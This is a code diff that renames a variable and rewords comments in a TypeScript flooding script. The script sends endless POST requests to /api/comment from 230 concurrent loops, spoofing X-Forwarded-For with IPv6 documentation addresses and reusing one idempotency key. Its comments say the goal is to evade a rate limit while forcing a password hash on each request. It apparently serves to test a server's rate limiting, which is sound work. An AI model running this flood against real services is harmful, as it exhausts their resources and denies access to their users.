@@ -1,13 +1,15 @@
 import { Agent, request } from 'node:http'
 
-/** What everyone repeats: a repeated request is never counted, yet each costs a hash of its password. */
+/** All attackers repeat this request: repeats escape the rate limit, but each costs a password hash. */
 const [, , origin = '', body = ''] = process.argv
 const agent = new Agent({ keepAlive: true })
 
-const many = 230
+const attackerCount = 230
 let served = 0
 
+/** One /48 with a /64 for each attacker. */
 const home = (n: number): string => `2001:db8:1:${n.toString(16)}::1`
+/** A /48 for each attacker. */
 const homes = (n: number): string => `2001:db8:${(n + 2).toString(16)}::1`
 const addressOf = process.argv[4] === 'homes' ? homes : home
 
@@ -16,8 +18,8 @@ const ask = (from: string): Promise<void> =>
     const headers = { 'content-type': 'application/json', 'idempotency-key': 'flood', 'x-forwarded-for': from }
     const asked = request(new URL('/api/comment', origin), { method: 'POST', agent, headers }, (answer) => {
       served += answer.statusCode === 201 ? 1 : 0
-      // From here on the queue is full of people who have had their turn, as it stays for the rest of the attack.
-      if (served === many) process.stdout.write('attacking\n')
+      // From now on the queue is full of clients that have been served before, as in the rest of the attack.
+      if (served === attackerCount) process.stdout.write('attacking\n')
       answer.resume().on('end', done)
     })
     asked.on('error', () => done())
@@ -28,4 +30,4 @@ const attack = async (n: number): Promise<never> => {
   for (;;) await ask(addressOf(n))
 }
 
-await Promise.all(Array.from({ length: many }, (_, n) => attack(n)))
+await Promise.all(Array.from({ length: attackerCount }, (_, n) => attack(n)))
